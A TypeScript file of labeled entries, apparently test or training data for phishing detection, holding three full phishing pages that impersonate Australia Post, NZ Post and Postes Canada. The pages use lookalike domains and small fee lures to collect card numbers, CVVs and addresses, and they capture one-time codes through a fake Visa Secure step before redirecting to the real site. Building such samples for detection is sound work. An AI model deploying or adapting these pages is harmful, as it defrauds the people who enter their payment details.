import { htmlRoute, redirectRoute, type Entry } from '../entry.js';
import { jsonRoute } from '../parts/e-bin.js';

// Parcel-fee pages: Australia Post, NZ Post, Canada Post.

const threeDs = (brand: string, amount: string, action: string, lang = 'en'): string => `<!DOCTYPE html>
<html lang="${lang}"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>${lang === 'fr' ? 'Authentification du paiement' : 'Payment authentication'}</title>
<style>body{margin:0;font-family:Arial,sans-serif;background:#eee}.b{max-width:400px;margin:40px auto;background:#fff;padding:24px;border:1px solid #ccc}input{width:100%;box-sizing:border-box;padding:10px;font-size:16px;border:1px solid #999}button{margin-top:14px;width:100%;padding:11px;background:#1a1f71;color:#fff;border:0;font-size:15px}</style></head>
<body><div class="b"><b style="color:#1a1f71;font-size:18px">${lang === 'fr' ? 'Vérifié par Visa' : 'Visa Secure'}</b>
<p>${lang === 'fr' ? 'Marchand' : 'Merchant'}: ${brand}<br>${lang === 'fr' ? 'Montant' : 'Amount'}: ${amount}</p>
<p>${lang === 'fr' ? 'Entrez le code à usage unique envoyé à votre téléphone.' : 'Enter the one-time passcode sent to your mobile number.'}</p>
<form method="post" action="${action}"><input name="otp" maxlength="8" inputmode="numeric"><button>${lang === 'fr' ? 'Soumettre' : 'Submit'}</button></form></div></body></html>`;

export const entries: Entry[] = [
  {
    id: 'yf-auspost-redelivery-fee-card',
    label: 'phishing',
    kind: 'parcel-fee-kit',
    url: 'https://auspost.com.au-redelivery.help/track/?id=33TQW518204901',
    body: `<!DOCTYPE html>
<html lang="en-AU"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>Australia Post - Track your parcel</title>
<style>
body{margin:0;font-family:"AP Type Pro Text",Helvetica,Arial,sans-serif;background:#f3f1ee;color:#212129}
.h{background:#fff;border-bottom:1px solid #e2dfda;padding:12px 5%;display:flex;align-items:center;gap:10px;font-weight:700}
.h i{display:inline-block;width:34px;height:34px;border-radius:50%;background:#dc1928}
.c{max-width:560px;margin:24px auto;background:#fff;border-radius:8px;padding:26px}
.st{display:flex;gap:8px;margin:16px 0}
.st div{flex:1;height:6px;border-radius:3px;background:#dc1928}.st div.off{background:#e2dfda}
.tag{display:inline-block;background:#fff3cd;color:#7a5b00;padding:3px 8px;border-radius:3px;font-size:13px;font-weight:700}
label{display:block;font-size:14px;font-weight:700;margin:12px 0 4px}
input{width:100%;box-sizing:border-box;padding:11px;border:1px solid #8f8b85;border-radius:4px;font-size:16px}
.r{display:flex;gap:10px}.r>div{flex:1}
button{width:100%;margin-top:20px;padding:13px;background:#dc1928;color:#fff;border:0;border-radius:4px;font-size:16px;font-weight:700}
</style></head>
<body>
<div class="h"><i></i>Australia Post</div>
<div class="c">
<div style="font-size:13px;color:#666">Tracking number</div><div style="font-size:20px;font-weight:700">33TQW518204901</div>
<div class="st"><div></div><div></div><div></div><div class="off"></div></div>
<span class="tag">Delivery unsuccessful</span>
<p>We attempted to deliver your parcel on <b id="d"></b> but the address details were incomplete. Your item is being held at our facility. Pay the redelivery fee of <b>$2.99</b> and confirm your address to schedule a new delivery.</p>
<form id="f">
<label>Full name</label><input name="name" required>
<label>Street address</label><input name="addr" required>
<div class="r"><div><label>Suburb</label><input name="suburb" required></div><div><label>Postcode</label><input name="pc" maxlength="4" required></div></div>
<label>Mobile</label><input name="mob" type="tel" required>
<label>Card number</label><input name="card" inputmode="numeric" autocomplete="cc-number" required>
<div class="r"><div><label>Expiry</label><input name="exp" placeholder="MM/YY" required></div><div><label>CVV</label><input name="cvv" maxlength="4" required></div></div>
<button type="submit">Pay $2.99 and reschedule</button>
</form>
</div>
<script>
document.getElementById('d').textContent = new Date(Date.now() - 864e5).toLocaleDateString('en-AU');
document.getElementById('f').addEventListener('submit', function(e){
  e.preventDefault();
  fetch('/track/api/card', {method:'POST', body: new FormData(this)}).then(function(){ location.href = '/track/3ds?id=33TQW518204901'; });
});
</script>
</body></html>`,
    routes: {
      'auspost.com.au-redelivery.help/track/api/card': jsonRoute({ ok: 1 }),
      'auspost.com.au-redelivery.help/track/3ds': htmlRoute(threeDs('AUSTRALIA POST', 'AUD 2.99', '/track/api/otp')),
      'auspost.com.au-redelivery.help/track/api/otp': redirectRoute(302, 'https://auspost.com.au/'),
    },
  },
  {
    id: 'yf-nzpost-customs-charge-kit',
    label: 'phishing',
    kind: 'parcel-fee-kit',
    url: 'https://nzpost-customs.clearance-pay.co/item/NZ8830124571?s=sms',
    body: `<!DOCTYPE html>
<html lang="en-NZ"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>NZ Post | Customs charges payable</title>
<style>
body{margin:0;font-family:Arial,Helvetica,sans-serif;background:#f5f5f5;color:#222}
.h{background:#e4002b;color:#fff;padding:14px 5%;font-weight:bold;font-size:20px}
.c{max-width:520px;margin:24px auto;background:#fff;padding:24px;border-radius:4px}
table{width:100%;font-size:14px;border-collapse:collapse;margin:10px 0}td{padding:6px 0;border-bottom:1px solid #eee}
label{display:block;font-size:14px;font-weight:bold;margin:12px 0 4px}
input{width:100%;box-sizing:border-box;padding:10px;border:1px solid #999;font-size:16px}
.r{display:flex;gap:10px}.r>div{flex:1}
button{width:100%;margin-top:18px;padding:12px;background:#e4002b;color:#fff;border:0;font-size:16px;font-weight:bold}
</style></head>
<body>
<div class="h">NZ Post</div>
<div class="c">
<h2 style="margin-top:0">Your parcel is held at customs</h2>
<p>Item <b>NZ8830124571</b> from Shenzhen, CN requires payment of import charges before it can be released for delivery.</p>
<table><tr><td>GST</td><td style="text-align:right">$2.10</td></tr><tr><td>Clearance fee</td><td style="text-align:right">$1.89</td></tr><tr><td><b>Total</b></td><td style="text-align:right"><b>NZD $3.99</b></td></tr></table>
<p style="font-size:13px;color:#a00">Items not cleared within 48 hours will be returned to sender.</p>
<form method="post" action="/item/pay.php">
<label>Name on card</label><input name="name" required>
<label>Card number</label><input name="cc" inputmode="numeric" required>
<div class="r"><div><label>Expiry</label><input name="exp" placeholder="MM/YY" required></div><div><label>CVC</label><input name="cvc" maxlength="4" required></div></div>
<label>Email</label><input name="email" type="email">
<button type="submit">Pay NZD $3.99</button>
</form>
</div>
</body></html>`,
    routes: {
      'nzpost-customs.clearance-pay.co/item/pay.php': htmlRoute(threeDs('NZ POST CLEARANCE', 'NZD 3.99', '/item/otp.php')),
      'nzpost-customs.clearance-pay.co/item/otp.php': redirectRoute(302, 'https://www.nzpost.co.nz/'),
    },
  },
  {
    id: 'yf-postes-canada-frais-douane-fr',
    label: 'phishing',
    kind: 'parcel-fee-kit',
    url: 'https://postescanada-livraison.colis-suivi.com/fr/suivi/?pin=7023210039414604',
    body: `<!DOCTYPE html>
<html lang="fr-CA"><head><meta charset="utf-8"><meta name="viewport" content="width=device-width,initial-scale=1">
<title>Postes Canada - Frais de livraison en attente</title>
<style>
body{margin:0;font-family:Arial,Helvetica,sans-serif;background:#f4f4f4;color:#333}
.h{background:#fff;border-bottom:4px solid #e31836;padding:14px 5%;display:flex;gap:10px;align-items:center;font-weight:bold;color:#333}
.h i{display:inline-block;width:36px;height:24px;background:#e31836;border-radius:2px}
.c{max-width:540px;margin:26px auto;background:#fff;padding:26px;border:1px solid #ddd}
.pin{font-size:13px;background:#f7f7f7;padding:8px;margin:10px 0}
label{display:block;font-size:14px;font-weight:bold;margin:12px 0 4px}
input{width:100%;box-sizing:border-box;padding:10px;border:1px solid #999;font-size:16px}
.r{display:flex;gap:10px}.r>div{flex:1}
button{width:100%;margin-top:18px;padding:12px;background:#e31836;color:#fff;border:0;font-size:16px;font-weight:bold}
</style></head>
<body>
<div class="h"><i></i>Postes Canada</div>
<div class="c">
<h2 style="margin-top:0">Votre colis est en attente</h2>
<div class="pin">NIP : 7023210039414604 &middot; Statut : <b>Frais de douane impayés</b></div>
<p>Votre colis ne peut être livré tant que les frais de dédouanement de <b>2,49 $</b> n'ont pas été réglés. Après 72 heures, le colis sera retourné à l'expéditeur.</p>
<form method="post" action="/fr/suivi/paiement">
<label>Nom complet</label><input name="nom" required>
<label>Adresse</label><input name="adresse" required>
<div class="r"><div><label>Ville</label><input name="ville"></div><div><label>Code postal</label><input name="cp" maxlength="7"></div></div>
<label>Numéro de carte</label><input name="carte" inputmode="numeric" required>
<div class="r"><div><label>Date d'expiration</label><input name="exp" placeholder="MM/AA" required></div><div><label>CVV</label><input name="cvv" maxlength="4" required></div></div>
<button type="submit">Payer 2,49 $</button>
</form>
</div>
</body></html>`,
    routes: {
      'postescanada-livraison.colis-suivi.com/fr/suivi/paiement': htmlRoute(threeDs('POSTES CANADA', '2,49 $ CAD', '/fr/suivi/otp', 'fr')),
      'postescanada-livraison.colis-suivi.com/fr/suivi/otp': redirectRoute(302, 'https://www.canadapost-postescanada.ca/cpc/fr/home.page'),
    },
  },
];
